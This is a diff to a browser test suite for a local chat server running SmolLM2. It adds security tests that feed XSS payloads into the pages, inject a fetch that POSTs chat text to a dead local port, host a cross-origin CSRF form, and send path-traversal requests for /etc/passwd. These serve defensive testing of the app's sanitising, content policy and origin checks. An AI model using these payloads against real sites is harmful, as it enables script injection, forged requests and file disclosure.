@@ -1,11 +1,13 @@
 """The pages in a real browser, on a real server with SmolLM2, as a person would use them."""
 
+import http.server
 import json
 import os
 import signal
 import socket
 import subprocess
 import sys
+import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -127,20 +129,65 @@ def test_a_message_is_answered_in_a_stream_and_found_again_after_a_reload(page):
     assert page.locator(".talk.here").inner_text().startswith("Tell me a long story")
 
 
+HOSTILE = [
+    "<img src=x onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>",
+    "<svg onload=\"document.title='hacked'\"><animate onbegin=\"document.title='hacked'\"/></svg>",
+    "[x](javascript:document.title='hacked') ![y](javascript:document.title='hacked')",
+    "<iframe srcdoc=\"<script>parent.document.title='hacked'</script>\"></iframe><a href=data:text/html,x>z</a>",
+    '```"><img src=x onerror="document.title=\'hacked\'">\ncode\n```',
+    "|a|\n|-|\n|<details open ontoggle=\"document.title='hacked'\">|",
+    "{{constructor.constructor(\"document.title='hacked'\")()}} <math><mtext><style><img src=x onerror=alert(1)>",
+]
+
+
 def test_hostile_words_of_a_model_do_nothing(page, home):
     store = ConversationStore(home / "modelworks.db")
     conversation = store.create(MODEL)
-    attack = "<img src=x onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>"
-    question = store.add(conversation.id, "user", attack, None)
-    store.add(conversation.id, "assistant", f"{attack}\n\n[x](javascript:document.title='hacked')", question.id, MODEL)
-    store.rename(conversation.id, attack)
+    last = None
+    for attack in HOSTILE:
+        last = store.add(conversation.id, "user", attack, last and last.id)
+        last = store.add(conversation.id, "assistant", attack, last.id, model=attack)
+    store.save(last.id, HOSTILE[0], "failed", HOSTILE[1])
+    store.rename(conversation.id, HOSTILE[0])
     store.close()
-    page.goto(f"/c/{conversation.id}")
-    page.locator(".said").first.wait_for()
+    run = home / "runs" / "<img src=x onerror=alert(1)>"  # a folder's name is a stranger's word as well
+    run.mkdir(parents=True)
+    for address in (f"/c/{conversation.id}", "/runs", "/models"):
+        page.goto(address)
+        page.get_by_label("Menu").wait_for()
+        if address.startswith("/c/"):
+            page.locator(".said").nth(len(HOSTILE) - 1).wait_for()
+            assert "onerror" in page.locator(".said").first.inner_text()
+        page.wait_for_timeout(300)
+        active = ".chat img, .chat script, .chat iframe, .said svg, .talk img, .said a, .q-page img"
+        assert page.locator(active).count() == 0
+        assert page.evaluate("document.title") != "hacked"
+    run.rmdir()
+
+
+def test_the_pages_keep_to_their_policy_and_it_stops_what_should_have_got_through(page, talk):
+    refused = []
+    page.on("console", lambda message: refused.append(message.text) if "Content Security" in message.text else None)
+    for address in ("/", f"/c/{talk}", "/plan", "/supercomputer", "/runs", "/models"):
+        answer = page.goto(address)
+        assert "script-src-attr 'none'" in answer.headers["content-security-policy"]
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        page.get_by_label("Menu").wait_for()
+        page.wait_for_timeout(300)
+    assert refused == []
+    page.evaluate(
+        """() => {
+          document.body.insertAdjacentHTML("beforeend", `<img src=x onerror="document.title = 'hacked'">`);
+          document.body.insertAdjacentHTML("beforeend", `<img src="http://127.0.0.1:9/what-was-said">`);
+          document.body.insertAdjacentHTML("beforeend", `<iframe src="http://127.0.0.1:9/"></iframe>`);
+        }"""
+    )
+    sent = "fetch('http://127.0.0.1:9/', {method: 'POST', body: 'what was said'}).then(() => 'sent', String)"
+    assert page.evaluate(sent) != "sent"
     page.wait_for_timeout(500)
-    assert "onerror" in page.locator(".said").first.inner_text()
-    assert page.locator(".chat img, .chat script, .talk img, .said a").count() == 0
     assert page.evaluate("document.title") != "hacked"
+    for directive in ("script-src-attr", "img-src", "connect-src"):
+        assert any(directive in line for line in refused), directive
 
 
 def test_what_is_typed_survives_a_reload(page):
@@ -374,7 +421,7 @@ def test_the_theme_that_was_chosen_is_remembered(page):
     page.wait_for_function("document.body.classList.contains('body--dark')")
 
 
-def test_a_kill_in_mid_answer_leaves_the_conversation_and_marks_the_answer(browser, home, tmp_path):
+def test_an_answer_cut_short_by_a_kill_is_there_and_goes_on(browser, home, tmp_path):
     other = tmp_path / "home"
     other.mkdir()
     (other / "models").symlink_to(home / "models")
@@ -388,12 +435,22 @@ def test_a_kill_in_mid_answer_leaves_the_conversation_and_marks_the_answer(brows
     page.close()
     again = RunningServer(other)
     store = ConversationStore(other / "modelworks.db")
-    question, answer = store.thread(store.conversations()[0].id)
-    store.close()
-    again.end()
+    conversation = store.conversations()[0].id
+    question, answer = store.thread(conversation)
     assert question.content == "Tell me a long story about a whale."
     assert answer.state == "interrupted"
     assert len(answer.content) > 20
+    page = browser.new_page()
+    page.goto(f"{again.url}/c/{conversation}")
+    page.get_by_label("Go on").click()
+    grown = f"document.querySelector('.said')?.innerText.length > {len(answer.content) + 40}"
+    page.wait_for_function(grown, timeout=60_000)
+    page.get_by_label("Stop", exact=True).click()
+    page.get_by_label("Answer again").wait_for()
+    page.close()
+    assert store.thread(conversation)[-1].content.startswith(answer.content)
+    store.close()
+    again.end()
 
 
 def test_a_page_of_another_origin_can_neither_read_the_pages_nor_open_their_websocket(server):
@@ -404,6 +461,62 @@ def test_a_page_of_another_origin_can_neither_read_the_pages_nor_open_their_webs
     upgrade["Sec-WebSocket-Key"] = "dGhlIHNhbXBsZSBub25jZQ=="
     for address, headers in ((socket_io, {}), (socket_io.replace("polling", "websocket"), upgrade)):
         assert httpx.get(address, headers={"Origin": "http://evil.example", **headers}).status_code == 403
+
+
+def test_another_sites_page_begins_no_conversation_and_no_path_leads_outside(page, server):
+    before = httpx.get(f"{server.url}/v1/chats").json()["data"]
+
+    class Evil(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            form = f"<form method=post enctype=text/plain action='{server.url}/v1/chats'>"
+            self.wfile.write(f"{form}<input name='{{\"model\":\"x' value='\"}}'></form>".encode())
+
+        def log_message(self, *_):
+            """Quiet."""
+
+    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
+    threading.Thread(target=evil.serve_forever, daemon=True).start()
+    page.goto(f"http://127.0.0.1:{evil.server_port}/")
+    tried = page.evaluate(
+        """async (url) => {
+          const post = {method: "POST", body: '{"model": "x"}', headers: {"Content-Type": "text/plain"}};
+          const told = [];
+          for (const options of [post, {...post, mode: "no-cors"}, {...post, credentials: "include"}])
+            told.push(await fetch(url + "/v1/chats", options).then((answer) => answer.status, String));
+          told.push(await new Promise((done) => {
+            const address = url.replace("http", "ws") + "/_nicegui_ws/socket.io/?EIO=4&transport=websocket";
+            const socket = new WebSocket(address);
+            socket.onopen = () => done("open");
+            socket.onerror = () => done("refused");
+          }));
+          return told;
+        }""",
+        server.url,
+    )
+    assert all(told.startswith("TypeError") for told in tried[:3])
+    assert tried[3] == "refused"
+    page.evaluate("document.forms[0].submit()")
+    page.wait_for_url(f"{server.url}/v1/chats")
+    assert "may not use this server" in page.content()
+    evil.shutdown()
+    assert httpx.get(f"{server.url}/v1/chats").json()["data"] == before
+    host, port = server.url.removeprefix("http://").split(":")
+    for path in (
+        "/../etc/passwd",
+        "/_modelworks/..%2f..%2fetc%2fpasswd",
+        "/_nicegui/x/static/..%2f..%2f..%2fetc%2fpasswd",
+    ):
+        for climb in (path, path.replace("..%2f", "../"), path.replace("..", "%2e%2e")):
+            with socket.create_connection((host, int(port)), timeout=10) as connection:
+                connection.sendall(f"GET {climb} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
+                answer = b""
+                while block := connection.recv(1 << 16):
+                    answer += block
+            assert answer.split()[1] in {b"400", b"404"}
+            assert b"root:x:" not in answer
 
 
 def test_a_page_closed_with_a_question_open_leaves_no_error_behind(browser, home, tmp_path):
